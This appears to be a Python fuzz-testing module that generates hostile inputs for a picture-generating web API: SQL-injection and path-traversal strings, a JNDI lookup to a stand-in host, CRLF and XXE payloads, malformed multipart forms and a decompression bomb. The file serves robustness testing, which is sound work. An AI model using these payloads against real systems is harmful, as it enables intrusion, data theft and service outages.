"""Hostile values, JSON texts, forms and compressed bodies, all from one random generator."""

from __future__ import annotations

import gzip
import json
import random
import zlib
from collections.abc import Callable, Mapping
from typing import Any

from pictures import drawn, encode

LOGO = encode(drawn(size=32))
SQL = (
    "' OR '1'='1", "'; DROP TABLE generations; --", '" OR ""="', "1); DELETE FROM keys; --", "admin'--", "%' --", "\\'",
    "' UNION SELECT secret FROM keys --", "1 OR 1=1", "_%", "$1", ":id", "?", "{{7*7}}", "${jndi:ldap://e.vil/a}",
)  # fmt: skip
TRAVERSAL = (
    "..", "../../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "....//....//etc/passwd", "file:///etc/passwd",
    "a/../../b", "%2e%2e%2fetc%2fpasswd", "..%2f..%2f", "..%c0%af..", "C:\\Windows", "~root", "nul", "a\0.png", ".",
    "./",
)  # fmt: skip
BREAKS = (
    "a\r\nSet-Cookie: owned=1", "a\nERROR 2026-01-01 00:00:00 forged", "\r\n\r\n<html>", "a\u2028b", "\x1b[2J\x1b[31m",
    "\x00", "\x7f", "a\x85b", "\x0b\x0c",
)  # fmt: skip
TEXTS = (
    *SQL, *TRAVERSAL, *BREAKS, "", " ", "null", "undefined", "None", "NaN", "-0", "0", "-1", "1e999", "9" * 5000,
    "0x10", "true", "é" * 300, "𝕏" * 100, "\ud800", "\udfff\ud800", "\ufeff", "\u202egnp", "ﷺ" * 50, "a" * 300,
    "x" * 70_000, "<script>alert(1)</script>", "%s%s%n", "%d" * 50, "١٢٣", "1_000", " 7 ", "7.", ".7e1", "0 ", "--1",
    "(((((a:9)", "a:1e9)",
)  # fmt: skip
NUMBERS = (
    0, -1, 1, 2**31, 2**32, 2**53 + 1, 2**63, -(2**63) - 1, 2**64, 10**18, 10**30, 10**400, 0.1, -0.0, 1e-320, 1e308,
    1.5, float("nan"), float("inf"), float("-inf"), 7, 64, 512,
)  # fmt: skip
RAW_JSON = (
    b"", b" ", b"null", b"[]", b"1", b'"a"', b"{", b"}", b"{}", b'{"a"}', b'{"a":}', b'{"a":1,}', b"{'a':1}",
    b"\xff\xfe{\0}\0", b"\xef\xbb\xbf{}", b"{}{}", b'{"prompt":"a","prompt":"b"}', b'{"prompt":NaN}',
    b'{"seed":Infinity}', b'{"seed":-Infinity}', b'{"n":1e999}', b'{"seed":' + b"9" * 5000 + b"}",
    b'{"seed":' + b"9" * 20 + b"}", b'{"prompt":"\\ud800"}', b'{"\\udfff":"\\ud800"}', b'{"prompt":"\\u0000"}',
    b'{"prompt":"\xff"}', b'{"prompt":"\x01"}', b'{"a":1}\0', b"[" * 5000, b'{"a":' * 5000,
    b"[" * 100_000 + b"]" * 100_000, b'{"input":' * 900 + b"1" + b"}" * 900, b'{"__proto__":{"a":1}}',
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", b"a=1&b=2", b"\0" * 100,
)  # fmt: skip

Draw = random.Random


def value(draw: Draw, depth: int = 0) -> Any:
    """A value of any JSON type, or of those that Python's encoder adds."""
    kind = draw.randrange(8 if depth < 3 else 6)
    if kind < 2:
        return draw.choice(TEXTS)
    if kind < 4:
        return draw.choice(NUMBERS)
    if kind == 4:
        return draw.choice([None, True, False, [], {}])
    if kind == 5:
        return "".join(
            chr(draw.choice([draw.randrange(32, 127), draw.randrange(0xD800)])) for _ in range(draw.randrange(40))
        )
    if kind == 6:
        return [value(draw, depth + 1) for _ in range(draw.choice([1, 2, 3, 40]))]
    return {str(draw.choice(TEXTS))[:40]: value(draw, depth + 1) for _ in range(draw.randrange(4))}


def fitting(draw: Draw, schema: Mapping[str, Any]) -> Any:
    """A value that roughly fits ``schema``; large values are kept small."""
    if "example" in schema and draw.random() < 0.7:
        return schema["example"]
    if schema.get("examples") and draw.random() < 0.7:
        return draw.choice(list(schema["examples"]))
    if "enum" in schema or "const" in schema:
        return draw.choice(list(schema.get("enum") or [schema["const"]]))
    for one in ("anyOf", "oneOf"):
        if one in schema:
            return fitting(draw, draw.choice(schema[one]))
    kind = schema.get("type", "string")
    kind = draw.choice(kind) if isinstance(kind, list) else kind
    if kind == "object":
        return object_of(draw, schema)
    if kind == "array":
        return [fitting(draw, schema.get("items", {})) for _ in range(draw.randrange(1, 4))]
    if kind in ("integer", "number"):
        return max(schema.get("minimum", 1), min(schema.get("maximum", 4), draw.choice([1, 2, 7])))
    return {"boolean": draw.random() < 0.5, "null": None}.get(kind, draw.choice(["a fox", "red apple", "png", "ada"]))


def object_of(draw: Draw, schema: Mapping[str, Any]) -> dict[str, Any]:
    needed = schema.get("required", ())
    properties = schema.get("properties", {})
    return {name: fitting(draw, one) for name, one in properties.items() if name in needed or draw.random() < 0.2}


def spoilt(draw: Draw, values: Mapping[str, Any], names: list[str]) -> dict[str, Any]:
    """One or two fields are changed, removed, or repeated under another name."""
    changed = dict(values)
    for _ in range(draw.choice([1, 1, 2])):
        name = draw.choice(names or ["prompt"])
        mutation = draw.randrange(12)
        if mutation == 0:
            changed.pop(name, None)
        elif mutation == 1:
            changed[draw.choice([name.upper(), f"{name} ", f"{name}\0", f"_{name}", str(draw.choice(TEXTS))[:99]])] = 1
        else:
            changed[name] = value(draw)
    return changed


def json_text(draw: Draw, document: Any) -> bytes:
    """NaN and Infinity are kept; some texts are truncated or repeat a member."""
    text = json.dumps(document, ensure_ascii=draw.random() < 0.8).encode(errors="surrogatepass")
    mutation = draw.randrange(12)
    if mutation == 0:
        return text[: draw.randrange(len(text) + 1)]
    if mutation == 1 and text.startswith(b"{") and len(text) > 2:
        return text[:-1] + b"," + text[1:]
    if mutation == 2:
        return damaged(draw, text)
    return text


def damaged(draw: Draw, data: bytes) -> bytes:
    if not data:
        return data
    changed = bytearray(data)
    for _ in range(draw.randint(1, 6)):
        changed[draw.randrange(len(changed))] = draw.randrange(256)
    return bytes(changed[: draw.randint(1, len(changed))]) if draw.random() < 0.5 else bytes(changed)


_PART_HEADS = (
    'Content-Disposition: form-data; name="{name}"',
    'Content-Disposition: form-data; name="{name}"; filename="a.png"',
    'Content-Disposition: form-data; name="{name}"; filename="../../etc/passwd"', "Content-Disposition: form-data",
    'Content-Disposition: form-data; name={name}; filename*=UTF-8\'\'%ff%00',
    'content-disposition: attachment; name="{name}"', 'Content-Disposition: form-data; name="{name}"; name="image"',
    "Content-Type: image/png", "X" * 5000 + ": 1", "",
    'Content-Disposition: form-data; name="{name}"\r\nContent-Transfer-Encoding: base64', ": nothing", "no colon",
    'Content-Disposition: form-data; name="{name}"\r\nContent-Type: text/plain; charset=undefined',
    'Content-Disposition: form-data; name="{name}"\r\nContent-Type: multipart/mixed; boundary=x',
)  # fmt: skip


def form(draw: Draw, names: list[str]) -> tuple[bytes, bytes]:
    """Content-Type and body."""
    if draw.random() < 0.4:
        return b"multipart/form-data; boundary=x", _nearly_valid(draw, names)
    parts = []
    for _ in range(draw.choice([0, 1, 2, 3, 3, 50])):
        name = draw.choice([*names, "image", str(draw.choice(TEXTS))[:60]])
        head = draw.choice(_PART_HEADS[:2]) if draw.random() < 0.7 else draw.choice(_PART_HEADS)
        content = draw.choice(
            [LOGO, damaged(draw, LOGO), str(draw.choice(TEXTS)).encode(errors="replace"), b"1", b"true"]
        )
        parts.append(b"--x\r\n" + head.format(name=name).encode(errors="replace") + b"\r\n\r\n" + content + b"\r\n")
    body = b"".join(parts) + draw.choice(
        [b"--x--\r\n", b"--x--\r\n", b"--x", b"--x--\r\n--x\r\n\r\n1", b"", b"--y--\r\n"]
    )
    kind = draw.choice(
        [b"multipart/form-data; boundary=x"] * 8
        + [b"multipart/form-data", b"multipart/form-data; boundary=", b"multipart/form-data; boundary=" + b"x" * 400]
        + [
            b'multipart/form-data; boundary="x',
            b"multipart/form-data; boundary=x; charset=undefined",
            b"multipart/mixed",
        ]
        + [
            b"multipart/form-data; boundary=\xff\xfe",
            b"application/x-www-form-urlencoded",
            b"multipart/form-data; boundary=--x",
        ]
    )
    return kind, damaged(draw, body) if draw.random() < 0.15 else body


def _nearly_valid(draw: Draw, names: list[str]) -> bytes:
    """A picture, valid or not, and up to two fields."""
    disposition = b'--x\r\nContent-Disposition: form-data; name="%b"'
    picture = draw.choice([LOGO, LOGO, damaged(draw, LOGO), b"GIF89a", b"<svg xmlns='http://www.w3.org/2000/svg'/>"])
    parts = [disposition % b"image" + b'; filename="a"\r\n\r\n' + picture]
    others = [name for name in names if name != "image"]
    for name in draw.sample(others, min(len(others), draw.randrange(3))):
        text = draw.choice(["1", "0.9", "true", "auto", "2", "5000", "ada", "cat", str(draw.choice(TEXTS))[:500]])
        parts.append(disposition % name.encode() + b"\r\n\r\n" + text.encode(errors="replace"))
    return b"\r\n".join(parts) + b"\r\n--x--\r\n"


_BOMB = zlib.compress(bytes(30_000_000), 9)

_PACKINGS: tuple[tuple[bytes, Callable[[bytes], bytes]], ...] = (
    (b"gzip", gzip.compress), (b"deflate", zlib.compress), (b"gzip", lambda data: gzip.compress(data)[:-5]),
    (b"gzip", lambda data: gzip.compress(data) + b"more"), (b"gzip", lambda data: gzip.compress(gzip.compress(data))),
    (b"gzip", lambda data: data), (b"gzip", lambda data: b""), (b"deflate", lambda data: zlib.compress(data)[2:-4]),
    (b"gzip, gzip", gzip.compress), (b"br", lambda data: data), (b"zstd", lambda data: data),
    (b"identity", lambda data: data), (b"\xff", lambda data: data), (b"GZIP", gzip.compress),
    (b"gzip", lambda data: gzip.compress(data)[:3] + b"\xff" * 9), (b"deflate", lambda data: _BOMB),
    (b"chunked", lambda data: data), (b"gzip", lambda data: zlib.compress(data)),
)  # fmt: skip


def packed(draw: Draw, body: bytes) -> tuple[bytes, bytes]:
    """Content-Encoding and body."""
    encoding, pack = draw.choice(_PACKINGS)
    return encoding, pack(body)
